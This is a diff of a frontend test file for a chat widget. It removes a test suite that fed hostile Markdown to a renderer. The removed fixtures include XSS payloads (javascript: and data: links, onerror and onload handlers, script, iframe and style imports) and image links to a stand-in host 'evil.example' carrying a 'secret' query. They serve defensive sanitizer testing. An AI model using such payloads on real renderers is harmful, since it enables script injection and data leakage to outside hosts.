@@ -1,79 +1,8 @@
-/** What a hostile model, server, page or browser may try, in a real DOM. */
+/** What a hostile page or browser may do to the widget, and the script tag. */
 import { expect } from '@open-wc/testing';
-import { createMarkdown } from '../../../widget/markdown/markdown.ts';
 import { all, answerText, asked, bffUrl, chat, clean, find, need, until } from './help.ts';
 
 afterEach(clean);
-
-const words = { image: 'Image', done: 'Done', open: 'To do', copyCode: 'Copy code', table: 'Table' };
-const evil = 'https://evil.example';
-const hostile = [
-  `![x](${evil}/a.png?q=secret)`, `![x](${evil}/a.png "t")`, `<img src="${evil}/b.png" onerror="window.pwned=1">`, `[![x](${evil}/c.png)](javascript:window.pwned=1)`,
-  '[click](javascript:window.pwned=1)', '[click](JAVASCRIPT&colon;alert(1))', '[click]( javascript:alert(1))', '[click](data:text/html,<script>window.pwned=1</script>)', '<javascript:window.pwned=1>',
-  '<script>window.pwned=1</script>', '<svg onload="window.pwned=1">', '<iframe src="//evil.example"></iframe>', `<style>@import "${evil}/d.css";</style>`, `<link rel=stylesheet href="${evil}/e.css">`,
-  '<a href="javascript:window.pwned=1">x</a>', `| ![x](${evil}/f.png) | <img src=${evil}/g.png> |\n|---|---|\n| [a](javascript:window.pwned=1) | ${'`<img>`'} |`,
-  `[ref]: ${evil}/h.png\n![ref]`, `\`\`\`html\n<img src="${evil}/i.png">\n\`\`\``, '[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example) [d](/login) [e](#x)', '&lt;img src=x onerror=alert(1)&gt;',
-];
-
-describe('hostile Markdown', () => {
-  it('fetches nothing, leaves no dangerous address and no element of its own, at any moment', async () => {
-    const root = document.createElement('div');
-    document.body.append(root);
-    const observer = new PerformanceObserver(() => undefined);
-    observer.observe({ type: 'resource' });
-    const text = hostile.join('\n\n');
-    const stream = createMarkdown(document, root, words);
-    for (const char of text) {
-      stream.write(char);
-      stream.flush();
-      if (root.querySelector('img,script,style,link,iframe,svg,object,embed,video,audio,form,input,[style],[onerror],[onload],[src],[srcset]')) throw new Error(`an element got through: ${root.innerHTML}`);
-      for (const anchor of root.querySelectorAll('a')) if (!/^(?:https?:|mailto:)/.test(anchor.getAttribute('href') ?? '')) throw new Error(anchor.outerHTML);
-    }
-    stream.end();
-    await new Promise((resolve) => setTimeout(resolve, 50));
-    expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example'))).to.deep.equal([]);
-    expect((window as { pwned?: number }).pwned).to.equal(undefined);
-    expect(root.textContent).to.contain('<script>window.pwned=1</script>');
-    observer.disconnect();
-    root.remove();
-  });
-
-  it('shows where a link goes', async () => {
-    const element = await chat();
-    await asked(element, `hostile\n[your bank](https://evil.example/login) and ![a cat](${evil}/cat.png)`);
-    const [link, image] = [...shadowLinks(element)];
-    expect(link?.title).to.equal('https://evil.example/login');
-    expect([link?.rel, link?.target]).to.deep.equal(['noopener noreferrer nofollow ugc', '_blank']);
-    expect(image?.textContent).to.equal('Image: a cat');
-    expect(all(element, 'img').length).to.equal(0);
-  });
-
-  it('gives the same DOM char by char as at once', () => {
-    const text = hostile.join('\n\n');
-    const [a, b] = [document.createElement('div'), document.createElement('div')];
-    const piecewise = createMarkdown(document, a, words);
-    for (const char of text) {
-      piecewise.write(char);
-      piecewise.flush();
-    }
-    piecewise.end();
-    const atOnce = createMarkdown(document, b, words);
-    atOnce.write(text);
-    atOnce.end();
-    a.normalize();
-    b.normalize();
-    expect(a.isEqualNode(b)).to.equal(true);
-  });
-
-  it('renders a megabyte without hanging', () => {
-    const root = document.createElement('div');
-    const stream = createMarkdown(document, root, words);
-    const started = performance.now();
-    stream.write('A sentence with **bold** and `code`, *and [a link](https://a.example/)* in it. '.repeat(12_500));
-    stream.end();
-    expect(performance.now() - started).to.be.lessThan(4_000);
-  });
-});
 
 describe('a browser that keeps nothing', () => {
   for (const kind of ['localStorage', 'sessionStorage'] as const) {
@@ -176,7 +105,3 @@ describe('the script tag', () => {
     expect(find(element, '.popup')?.hidden).to.equal(true);
   });
 });
-
-function shadowLinks(element: Element): HTMLAnchorElement[] {
-  return all(element, '.prose a') as HTMLAnchorElement[];
-}
